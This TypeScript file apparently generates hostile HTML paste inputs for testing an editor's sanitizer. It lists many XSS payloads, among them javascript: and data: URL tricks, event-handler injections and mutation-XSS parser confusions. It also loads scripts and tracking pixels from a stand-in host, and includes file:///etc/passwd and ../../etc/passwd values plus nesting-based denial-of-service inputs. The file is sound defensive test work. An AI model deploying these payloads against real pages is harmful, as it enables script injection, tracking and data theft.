import type { Random } from '../vault/seeded-random.ts';

/** A page that another program could put on the clipboard, with the words of it that are harmless and stay. */
export interface HostileHtml {
  how: string;
  html: string;
  kept: readonly string[];
}

/** Runs where it is run at all; asks for where it is asked for. */
const RUN = 'window.__ran=1';
const AWAY = 'https://tracker.example.org/seen';

const schemes = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` \u0001javascript:${RUN}`,
  `java&#10;script:${RUN}`,
  `java&Tab;script:${RUN}`,
  `&#x6A;avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  `feed:javascript:${RUN}`,
  `blob:${AWAY}`,
  'app://cairn/print-x',
] as const;

/** Each is one trick. `{url}` is an address that runs, `{away}` one that would tell who reads. */
const tricks = [
  '<script>{run}</script>',
  '<script src="{away}.js"></script>',
  '<script type="module">import("{away}.js");{run}</script>',
  '<img src="{away}.png" onerror="{run}">',
  '<img src=x onerror={run}>',
  '<img srcset="{away}.png 1x" alt="">',
  '<picture><source srcset="{away}.png"><img src="{away}2.png" alt=""></picture>',
  '<img src="{away}.gif" width="1" height="1" alt="">',
  '<svg onload="{run}"><script>{run}</script></svg>',
  '<svg><a xlink:href="{url}"><text>x</text></a><animate onbegin="{run}" attributeName="x"/></svg>',
  '<svg><foreignObject><iframe src="{url}"></iframe></foreignObject></svg>',
  '<svg><use href="{away}.svg#x"/><image href="{away}.png"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;">',
  '<math><maction actiontype="statusline#{url}" xlink:href="{url}">x</maction></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>',
  '<noscript><p title="</noscript><img src=x onerror={run}>"></noscript>',
  '<template><img src=x onerror={run}></template>',
  '<template shadowrootmode="open"><script>{run}</script></template>',
  '<div><template shadowrootmode="open"><img src="{away}.png" onerror="{run}"></template></div>',
  '<iframe src="{url}"></iframe>',
  '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
  '<object data="{url}"></object><embed src="{away}.swf">',
  '<applet code="{away}.class"></applet>',
  '<meta http-equiv="refresh" content="0;url={away}">',
  '<base href="{away}/">',
  '<link rel="preload" as="image" href="{away}.png"><link rel="stylesheet" href="{away}.css">',
  '<link rel="dns-prefetch" href="{away}"><link rel="prefetch" href="{away}">',
  '<style>@import url({away}.css); p { background: url({away}.png) }</style>',
  '<p style="background:url({away}.png);width:expression({run});-moz-binding:url({away}.xml)">{word}</p>',
  '<p style=\'list-style-image:url("{away}.png");behavior:url(#default#time2)\'>{word}</p>',
  '<table background="{away}.png"><tr><td background="{away}.png">{word}</td></tr></table>',
  '<body background="{away}.png" onload="{run}">',
  '<a href="{url}">{word}</a>',
  '<a href="https://example.org" ping="{away}" onclick="{run}" onmouseover="{run}">{word}</a>',
  '<form action="{url}"><button formaction="{url}">x</button><input type="image" src="{away}.png" autofocus onfocus="{run}"></form>',
  '<input onfocus={run} autofocus><select autofocus onfocus={run}></select><textarea autofocus onfocus={run}></textarea>',
  '<video poster="{away}.png" src="{away}.mp4" autoplay onplay="{run}"></video><audio src="{away}.mp3" autoplay></audio>',
  '<video><source src="{away}.mp4" onerror="{run}"></video><track src="{away}.vtt">',
  '<details open ontoggle="{run}"><summary>{word}</summary></details>',
  '<marquee onstart="{run}">{word}</marquee>',
  '<x-element onfocus="{run}" tabindex=1 autofocus>{word}</x-element>',
  '<p onpointerenter="{run}" onfocus="{run}" contenteditable tabindex=0 autofocus>{word}</p>',
  '<p id="cookie" name="body" class="x" slot="y" is="z" itemprop="w">{word}</p>',
  '<!--[if gte mso 9]><xml><o:shapelayout v:ext="edit"/><img src="{away}.png"></xml><![endif]-->',
  '<!--[if !vml]><![endif]--><v:imagedata src="{away}.png" o:title="x"/>',
  '<o:p>&nbsp;</o:p><st1:place w:st="on" onclick="{run}">{word}</st1:place>',
  '<b style="font-weight:normal" id="docs-internal-guid-1"><p dir="ltr" style="line-height:1.38"><span style="font-weight:700">{word}</span></p></b>',
  '<dialog open onclose="{run}">x</dialog><portal src="{away}"></portal>',
  '<isindex type=image src="{away}.png" onerror={run}><keygen autofocus onfocus={run}>',
  '<figure data-attachment-id="../../etc/passwd" data-alt="x"></figure>',
  '<figure data-attachment-id="{hex}" data-alt="<img src=x onerror={run}>"></figure>',
  '<div data-attachment-id="{hex}" data-name="<script>{run}</script>"></div>',
  '<span data-person-id="00000000-0000-4000-8000-000000000000" data-label="<img src=x onerror={run}>"></span>',
  '<span data-tag="&lt;b&gt;"></span><span data-person-id="x" data-label="y"></span>',
  '<section data-prompt-id="x" data-prompt-version="1e999" data-prompt="<script>{run}</script>" data-state="gone"><div data-answer><p>{word}</p></div></section>',
  '<ol start="NaN" type="<img src=x onerror={run}>"><li>{word}</li></ol>',
  '<ol start="-99999999999999999999999"><li>{word}</li></ol>',
  '<table><tr><td colspan="1000000" rowspan="65534">{word}</td></tr></table>',
  '<ul data-type="taskList"><li data-type="taskItem" data-checked="{run}">{word}</li></ul>',
  '<a href="https://example.org/{hex}">{word}</a>',
] as const;

/** What an open end swallows: after these the harmless words behind are gone with the parser, here as in a browser. */
const unclosed = [
  '<script>',
  '<style>',
  '<textarea>',
  '<title>',
  '<!--',
  '<iframe>',
  '<noscript>',
  '<xmp>',
  '<plaintext>',
  '<svg><style>',
  '<select><option>',
  '<a href="',
  '<img src="x',
] as const;

const around: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `<ul><li>${inner}</li></ul>`,
  (inner) => `<blockquote><div><span>${inner}</span></div></blockquote>`,
  (inner) => `<table><tbody><tr><td>${inner}</td></tr></tbody></table>`,
  (inner) =>
    `<html xmlns:o="urn:x" xmlns:w="urn:y"><head><meta charset="utf-8"></head><body><!--StartFragment-->${inner}<!--EndFragment--></body></html>`,
  (inner) => `<h1 style="color:red">${inner}</h1>`,
  (inner) => `<b style="font-weight:normal" id="docs-internal-guid-2">${inner}</b>`,
  (inner) =>
    `<p class="MsoListParagraph" style="mso-list:l0 level1 lfo1"><span style="mso-list:Ignore">1.</span>${inner}</p>`,
  (inner) => `<font face=x>${inner}</font>`,
];

const mixCase = (random: Random, html: string) =>
  html.replaceAll(/<\/?[a-z]+/g, (tag) =>
    [...tag].map((sign) => (random.below(2) === 0 ? sign.toUpperCase() : sign)).join(''),
  );
const slashed = (html: string) => html.replaceAll(/ (on[a-z]+|src|href|style)=/g, '/$1\f=\n');
const identity = (html: string) => html;

function fill(random: Random, trick: string, word: string): string {
  const values: Record<string, string> = {
    run: RUN,
    away: AWAY,
    word,
    url: random.pick(schemes),
    hex: Array.from({ length: 64 }, () => random.below(16).toString(16)).join(''),
  };
  return trick.replaceAll(/\{(\w+)\}/g, (whole, name: string) => values[name] ?? whole);
}

const huge: readonly ((word: string) => HostileHtml)[] = [
  (word) => ({ how: 'nested 5,000 deep', html: `${'<div><blockquote>'.repeat(2500)}<p>${word}</p>`, kept: [word] }),
  (word) => ({
    how: 'quoted mail 300 deep',
    html: `${'<blockquote><p>line</p>'.repeat(300)}<p>${word}</p>`,
    kept: [word],
  }),
  (word) => ({ how: 'lists 90 deep', html: `${'<ul><li><p>item</p>'.repeat(90)}<p>${word}</p>`, kept: [word] }),
  (word) => ({
    how: '5 MB of text',
    html: `<p>${word}</p>${`<p>${'word '.repeat(100)}</p>`.repeat(10_000)}`,
    kept: [],
  }),
  (word) => ({
    how: '2 MB of text',
    html: `<p>${word}</p>${`<p>${'word '.repeat(100)}</p>`.repeat(4000)}`,
    kept: [word],
  }),
  (word) => ({
    how: 'style elements without an end',
    html: `<p>${word}</p>${'<style '.repeat(300_000)}`,
    kept: [word],
  }),
  (word) => ({ how: 'elements without an end', html: `<p>${word}</p>${'<a'.repeat(1_000_000)}`, kept: [word] }),
  (word) => ({
    how: 'attributes without an end',
    html: `<p>${word}</p><p ${'style=x '.repeat(300_000)}>x</p>`,
    kept: [word],
  }),
  (word) => ({ how: '20,000 marks in one another', html: `<p>${word}</p>${'<b><i>'.repeat(10_000)}x`, kept: [word] }),
];

/** The same for the same number; every 20th is huge. */
export function hostileHtml(random: Random, time: number): HostileHtml {
  const [before, inside, after] = [`before${time}`, `inside${time}`, `after${time}`];
  if (time % 20 === 13)
    return (huge[Math.floor(time / 20) % huge.length] ?? (huge[0] as (word: string) => HostileHtml))(before);
  if (time % 8 === 5) {
    const open = random.pick(unclosed);
    return { how: `${open} without an end`, html: `<p>${before}</p>${open}${RUN}<p>${after}</p>`, kept: [before] };
  }
  const trick = tricks[time % tricks.length] ?? tricks[0];
  const disguise = random.pick([identity, identity, slashed, (html: string) => mixCase(random, html)]);
  const wrap = around[random.below(around.length)] ?? identity;
  const html = `<p>${before}</p>${wrap(disguise(fill(random, trick, inside)))}<p>${after}</p>`;
  return {
    how: trick,
    html,
    kept: trick.includes('<style><!--') || trick.includes('<style></math>') ? [before] : [before, after],
  };
}
